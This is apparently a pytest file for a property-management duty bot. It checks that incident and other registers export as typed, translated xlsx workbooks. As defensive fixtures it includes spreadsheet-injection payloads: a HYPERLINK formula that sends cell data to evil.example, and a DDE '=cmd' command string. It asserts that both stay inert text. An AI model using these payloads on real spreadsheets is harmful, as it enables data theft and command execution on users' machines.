"""Registers as spreadsheets (issue 20 point 3): ``/export KIND [YYYY-MM] [CODE]`` in private and
``dutydesk export KIND --format xlsx -o FILE`` write the export's rows as a workbook with typed cells on
the site's clock, a frozen header, fitted widths and the field names translated in a second header row;
a resident's formula stays text (OWASP "CSV injection", as in CSV)."""

from __future__ import annotations

import asyncio
import io
import stat
import zipfile
from collections.abc import Callable
from datetime import UTC, date, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from sqlalchemy import insert
from sqlmodel import select

import handlers.core.export_xlsx as export_xlsx
from bot.cli import main
from bot.features import registry
from handlers.core.export_xlsx import RegisterBook, labels
from handlers.core.messages import Chat
from storage.codes import Severity
from storage.db import Database
from storage.models import Incident, Site, Upload, require_id
from tests.support import ADMIN, MANAGER, STAFF, SUPERVISOR, DeskHarness, text_of
from tests.support.reports import october

SHANGHAI = ZoneInfo("Asia/Shanghai")
HB_GROUP = Chat(id=-100600, private=False, title="另一个值班群")
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
LONG = "3栋大堂天花板漏水，已通知维修，物业经理到场查看"


def shanghai(month: int, day: int, hour: int, minute: int = 0) -> datetime:
    return datetime(2026, month, day, hour, minute, tzinfo=SHANGHAI).astimezone(UTC)


async def _records(h: DeskHarness) -> None:
    """October at HG (tests/reports_support: incidents #1-#5 in October, #6 in September), plus #7 with
    a resident's formula and #8 at 00:30 on 1 November site time (still 31 October in UTC), and one
    incident at a second site HB where the supervisor has no role."""
    await h.setup_site()
    await h.send("/setup HB 滨海花园", ADMIN, HB_GROUP)
    async with h.desk.db.session() as session:
        await october(session)  # commits
    async with h.desk.db.session() as session:
        site = (await session.exec(select(Site).where(Site.code == "HG"))).one()
        hb = (await session.exec(select(Site).where(Site.code == "HB"))).one()
        for number, at, text, site_id in (
            (7, shanghai(10, 12, 9), FORMULA, require_id(site)),
            (8, shanghai(11, 1, 0, 30), LONG, require_id(site)),
            (1, shanghai(10, 12, 9), "滨海花园的事", require_id(hb)),
        ):
            session.add(
                Incident(
                    site_id=site_id, number=number, occurred_at=at, logged_at=at, reporter_id=101,
                    reporter_name=FORMULA if number == 7 else "值班员小李", category="water",
                    severity=Severity.NORMAL, situation=text,
                )
            )  # fmt: skip


async def _files(h: DeskHarness) -> dict[str, bytes]:
    async with h.desk.db.session() as session:
        return {u.name: u.data for u in (await session.exec(select(Upload))).all()}


async def test_export_sends_the_month_of_the_supervisors_site_as_a_typed_workbook(any_harness: DeskHarness) -> None:
    h = any_harness
    await _records(h)
    out = await h.dm("/export incidents 2026-10", SUPERVISOR)
    assert not text_of(out)
    [row] = [r for r in await h.outbox() if r.chat_id == SUPERVISOR.id and r.purpose == "export"]
    assert row.method == "document" and row.text == "值班事件登记表 · HG · 2026-10 · 6 行"
    data = (await _files(h))["HG-incidents-2026-10.xlsx"]
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["incidents"]
    sheet = book["incidents"]
    keys = [c.value for c in sheet[1]]
    assert keys == list(registry().exports["incidents"].fields)
    names = dict(zip(keys, [c.value for c in sheet[2]], strict=True))
    assert names["number"] == "编号" and names["occurred_at"] == "发生时间" and names["situation"] == "事情情况"
    assert names["kind"] == "记录类型"  # a kind's own name for a shared key
    assert sheet.freeze_panes == "A3" and all(c.font.b for c in sheet[1] + sheet[2])
    rows = [dict(zip(keys, r, strict=True)) for r in sheet.iter_rows(min_row=3, values_only=True)]
    # September's #6, November's #8 (00:30 on the 1st site time) and HB's incident are left out.
    assert [r["number"] for r in rows] == [1, 2, 3, 4, 5, 7]
    assert all(r["site"] == "HG" for r in rows)
    fifth = rows[4]
    assert fifth["occurred_at"] == datetime(2026, 10, 31, 23, 30)  # the site's clock, not 15:30 UTC
    assert fifth["closed_at"] == datetime(2026, 11, 1, 5, 30)
    assert fifth["photos"] == 0 and fifth["escalation_level"] == 0  # numbers as numbers
    assert sheet.cell(3, keys.index("occurred_at") + 1).number_format == "yyyy-mm-dd h:mm:ss"
    # The resident's formula is a text cell with Excel's quote prefix; nowhere a formula in the file.
    cell = sheet.cell(8, keys.index("situation") + 1)
    assert cell.value == FORMULA and cell.data_type == "s" and cell.quotePrefix
    assert rows[5]["reporter"] == FORMULA
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert not any(b"<f>" in archive.read(name) or b"<f " in archive.read(name) for name in archive.namelist())
    widths = {k: sheet.column_dimensions[chr(ord("A") + n)].width for n, k in enumerate(keys) if n < 26}
    assert widths["occurred_at"] == 21  # "2026-10-31 23:30:00" and a margin
    assert widths["number"] == 8  # "number" and a margin: no narrower than its header
    assert widths["situation"] >= len(FORMULA)


async def test_the_month_is_the_sites_month_and_every_kind_with_records_exports(harness: DeskHarness) -> None:
    h = harness
    await _records(h)
    await h.dm("/export incidents 2026-11", MANAGER)
    november = openpyxl.load_workbook(io.BytesIO((await _files(h))["HG-incidents-2026-11.xlsx"]))["incidents"]
    assert [r[0] for r in november.iter_rows(min_row=3, values_only=True)] == [8]
    assert november.cell(3, 12).value == LONG
    assert november.column_dimensions["L"].width == 2 * len(LONG) - 1 + 2  # a CJK character 2 wide, "3" 1
    for kind in ("tickets", "callbacks", "key_loans", "patrols"):
        await h.dm(f"/export {kind} 2026-10", SUPERVISOR)
    files = await _files(h)
    for kind, time_key in (
        ("tickets", "created_at"), ("callbacks", "due_at"), ("key_loans", "out_at"), ("patrols", "due_at"),
    ):  # fmt: skip
        sheet = openpyxl.load_workbook(io.BytesIO(files[f"HG-{kind}-2026-10.xlsx"]))[kind]
        keys = [c.value for c in sheet[1]]
        times = [r[keys.index(time_key)] for r in sheet.iter_rows(min_row=3, values_only=True)]
        assert times and all(isinstance(t, datetime) and (t.year, t.month) == (2026, 10) for t in times), kind
    # The key register lists things, not events: sent whole, whatever the month.
    await h.dm("/export keys", SUPERVISOR)
    [row] = [r for r in await h.outbox() if r.purpose == "export" and "钥匙登记表" in r.text]
    assert "全部" in row.text and "HG-keys.xlsx" in await _files(h)


async def test_who_may_ask_and_bad_input(harness: DeskHarness) -> None:
    h = harness
    await _records(h)
    assert "主管" in text_of(await h.dm("/export incidents 2026-10", STAFF))
    assert "用法" in text_of(await h.dm("/export incidents 2026-13", SUPERVISOR))
    assert "用法" in text_of(await h.dm("/export incidents 十月", SUPERVISOR))
    assert "用法" in text_of(await h.dm("/export", SUPERVISOR))
    unknown = text_of(await h.dm("/export invoices", SUPERVISOR))
    assert "invoices" in unknown and "incidents" in unknown and "key_loans" in unknown
    # Site HB, where the supervisor has no role: refused by name, and nothing of it otherwise.
    hb = text_of(await h.dm("/export incidents 2026-10 HB", SUPERVISOR))
    assert "❌" in hb and "HB" in hb
    assert "滨海花园的事".encode() not in b"".join((await _files(h)).values())
    empty = text_of(await h.dm("/export incidents 2026-08", SUPERVISOR))
    assert "2026-08" in empty and "没有记录" in empty
    assert not [r for r in await h.outbox() if r.purpose == "export"]
    # An admin asking for HB gets HB's alone.
    await h.dm("/export incidents 2026-10 HB", ADMIN)
    sheet = openpyxl.load_workbook(io.BytesIO((await _files(h))["HB-incidents-2026-10.xlsx"]))["incidents"]
    assert [r[11] for r in sheet.iter_rows(min_row=3, values_only=True)] == ["滨海花园的事"]


def test_second_header_row_in_chinese_only() -> None:
    fields = ("number", "due_at", "staff")
    assert labels("key_loans", fields, "zh-Hant") == ["編號", "應還時間", "員工"]
    assert labels("patrols", fields, "zh-Hans") == ["编号", "计划时间", "员工"]
    assert labels("key_loans", fields, "en") is None
    book = RegisterBook("roster", fields, language="en")
    book.append({"number": 1, "due_at": "2026-11-23T10:00:00+08:00", "staff": "-1"})
    out = io.BytesIO()
    book.save(out)
    sheet = openpyxl.load_workbook(out)["roster"]
    assert sheet.freeze_panes == "A2" and [c.value for c in sheet[2]] == [1, datetime(2026, 11, 23, 10, 0), "-1"]
    assert sheet["C2"].data_type == "s" and sheet["C2"].quotePrefix  # "-1" typed by a person stays their text


def test_every_field_of_every_kind_is_translated() -> None:
    for kind, export in registry().exports.items():
        for language in ("zh-Hans", "zh-Hant"):
            names = labels(kind, export.fields, language) or []
            assert not [f for f, name in zip(export.fields, names, strict=True) if name == f], (kind, language)


def test_a_full_sheet_goes_on_in_the_next(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export_xlsx, "MAX_ROWS", 5)
    monkeypatch.setattr(export_xlsx, "MEASURED_ROWS", 2)
    book = RegisterBook("duty_days", ("date", "counts"))
    book.extend({"date": f"2026-11-{d:02d}", "counts": "{}"} for d in range(1, 7))  # 3 rows a sheet
    out = io.BytesIO()
    book.save(out)
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames == ["duty_days", "duty_days (2)"]
    first, second = ([r[0] for r in wb[name].iter_rows(min_row=3, values_only=True)] for name in wb.sheetnames)
    assert len(first) == 3 and len(second) == 3 and second[0] == datetime(2026, 11, 4)
    assert [c.value for c in wb["duty_days (2)"][2]] == ["值班日", "统计"]


# -- the command line --------------------------------------------------------------------------


def _seed(url: str) -> None:
    async def go() -> None:
        db = Database(url)
        async with db.engine.begin() as conn:
            await conn.execute(
                insert(Site), [{"code": "HG", "name": "华庭花园", "policy": {}, "timezone": "Asia/Shanghai"}]
            )
            at = shanghai(11, 23, 10)
            await conn.execute(
                insert(Incident),
                [
                    {"site_id": 1, "number": n, "occurred_at": at, "logged_at": at, "reporter_id": 7,
                     "reporter_name": name, "category": "other", "severity": "normal", "situation": text}
                    for n, (name, text) in enumerate([("张三", "3栋漏水\x07"), ("=cmd|' /C calc'!A0", "@SUM(A1)")], 1)
                ],
            )  # fmt: skip
        await db.dispose()

    asyncio.run(go())


def test_cli_writes_every_kind_as_a_workbook(
    tmp_path: Path, migrated_file: Callable[[Path], str], capsys: pytest.CaptureFixture[str]
) -> None:
    url = migrated_file(tmp_path / "desk.db")
    _seed(url)
    target = tmp_path / "incidents.xlsx"
    assert main(["export", "incidents", "--database", url, "--format", "xlsx", "-o", str(target)]) == 0
    assert "已导出 2 条 incidents" in capsys.readouterr().err  # DUTYDESK_LANGUAGE: zh-Hans by default
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    sheet = openpyxl.load_workbook(target)["incidents"]
    keys = [c.value for c in sheet[1]]
    first, second = (dict(zip(keys, r, strict=True)) for r in sheet.iter_rows(min_row=3, values_only=True))
    assert first["number"] == 1 and first["occurred_at"] == datetime(2026, 11, 23, 10, 0)
    assert first["situation"] == "3栋漏水"  # a control character XML cannot carry is dropped, not a crash
    assert second["reporter"] == "=cmd|' /C calc'!A0" and second["situation"] == "@SUM(A1)"
    assert sheet.cell(4, keys.index("reporter") + 1).data_type == "s"
    # Replaced only with --force; English: one header row.
    assert main(["export", "incidents", "--database", url, "--format", "xlsx", "-o", str(target)]) == 2
    assert "--force" in capsys.readouterr().err
    args = ["--database", url, "--format", "xlsx", "--lang", "en", "--force", "-o", str(target)]
    assert main(["export", "incidents", *args]) == 0
    assert openpyxl.load_workbook(target)["incidents"].freeze_panes == "A2"
    # A workbook is a file: standard output is refused.
    assert main(["export", "incidents", "--database", url, "--format", "xlsx"]) == 2
    assert "-o FILE" in capsys.readouterr().err
    for kind, export in registry().exports.items():
        path = tmp_path / f"every-{kind}.xlsx"
        assert main(["export", kind, "--database", url, "--format", "xlsx", "--lang", "zh-Hant", "-o", str(path)]) == 0
        sheet = openpyxl.load_workbook(path)[kind]
        assert [c.value for c in sheet[1]] == list(export.fields) and sheet.freeze_panes == "A3", kind


def test_dates_of_a_day_column_are_dates() -> None:
    assert export_xlsx.typed("2026-11-23", True) == date(2026, 11, 23)
    assert export_xlsx.typed("2026-11-23", False) == "2026-11-23"  # a text column keeps what was typed
    assert export_xlsx.typed("2026-11-23T10:00:00+08:00", True) == datetime(2026, 11, 23, 10, 0)
